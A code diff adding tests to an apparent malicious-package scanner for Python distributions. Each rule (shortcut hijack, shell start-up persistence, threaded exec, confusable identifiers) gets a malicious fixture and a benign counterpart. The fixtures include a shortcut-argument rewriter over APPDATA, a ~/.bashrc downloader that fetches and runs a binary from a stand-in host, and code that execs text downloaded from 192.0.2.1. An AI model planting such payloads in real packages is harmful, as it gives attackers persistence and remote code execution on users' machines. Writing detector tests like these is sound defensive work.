@@ -211,3 +211,80 @@ describe('PY-020: hidden processes started at import', () => {
     expect(findingsOf(r, 'PY-020')[0]?.severity).toBe('medium');
   });
 });
+
+describe('PY-011: shortcut hijacks and shell start-up payloads', () => {
+  const walk = (value: string) =>
+    `import os\nfrom win32com.client import Dispatch\nshell = Dispatch('WScript.Shell')\nfor root, dirs, files in os.walk(os.getenv('APPDATA')):\n    for f in files:\n        sc = shell.CreateShortcut(root + '\\\\' + f)\n        sc.Arguments = ${value}\n        sc.Save()\n`;
+
+  it('rewriting the arguments of shortcuts found on disk is a launch hijack (install: malicious)', async () => {
+    const r = await scanSdist({ 'setup.py': `${walk("'--load-extension=C:\\\\x'")}${SETUP}` });
+    const f = findingsOf(r, 'PY-011')[0];
+    expect(f?.severity).toBe('high');
+    expect(f?.evidence?.extension).toBe(true);
+    expect(r.verdict).toBe('malicious');
+  });
+
+  it('creating a new shortcut for the package itself is not', async () => {
+    const r = await scanSdist({
+      'pkg/shortcut.py': `import os\nfrom win32com.client import Dispatch\ndef make():\n    sc = Dispatch('WScript.Shell').CreateShortcut(os.path.join(os.getenv('USERPROFILE'), 'Desktop', 'App.lnk'))\n    sc.TargetPath = 'C:\\\\App\\\\app.exe'\n    sc.Arguments = '--start'\n    sc.Save()\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-011')).toHaveLength(0);
+  });
+
+  const rc = (line: string) =>
+    `import os\ndef setup_shell():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write(${JSON.stringify(line)})\n`;
+
+  it('a downloader appended to ~/.bashrc is critical persistence', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': rc(
+        `bash -c 'echo "wget https://dl.example.invalid/p -O /tmp/p && chmod +x /tmp/p && /tmp/p" > ~/.p.sh; bash ~/.p.sh'\n`,
+      ),
+      'setup.py': SETUP,
+    });
+    const f = findingsOf(r, 'PY-011').find((x) => x.evidence?.kind === 'shell start-up file');
+    expect(f?.severity).toBe('critical');
+  });
+
+  it('a completion line appended to ~/.bashrc is not', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': rc('eval "$(register-python-argcomplete mytool)"\n'),
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-011').filter((x) => x.severity === 'critical')).toHaveLength(0);
+  });
+});
+
+describe('code run by threads and obfuscated modules', () => {
+  it('Thread(target=exec, args=(downloaded,)) is remote code execution (PY-003)', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `import requests, threading\ndef start():\n    code = requests.get("http://192.0.2.1/x").text\n    threading.Thread(target=exec, args=(code, {}), daemon=True).start()\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-003')).toHaveLength(1);
+  });
+
+  it('a thread running an ordinary function is not', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `import requests, threading\ndef work(code):\n    print(code)\ndef start():\n    code = requests.get("https://example.invalid/x").text\n    threading.Thread(target=work, args=(code,)).start()\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-003')).toHaveLength(0);
+  });
+
+  const confusable = (tail: string) =>
+    `${Array.from({ length: 20 }, (_, i) => `${'_'.repeat(3 + (i % 6))}${String.fromCharCode(97 + i)} = [${i}, ___a]`).join('\n')}\n${tail}\n`;
+
+  it('confusable identifiers with eval/exec in the same file are high', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': confusable('___x = eval("\\x65\\x76\\x61\\x6c")\n___x(___a)'),
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-014')[0]?.severity).toBe('high');
+  });
+
+  it('confusable identifiers alone stay medium', async () => {
+    const r = await scanSdist({ 'pkg/__init__.py': confusable('print(___a)'), 'setup.py': SETUP });
+    expect(findingsOf(r, 'PY-014')[0]?.severity).toBe('medium');
+  });
+});
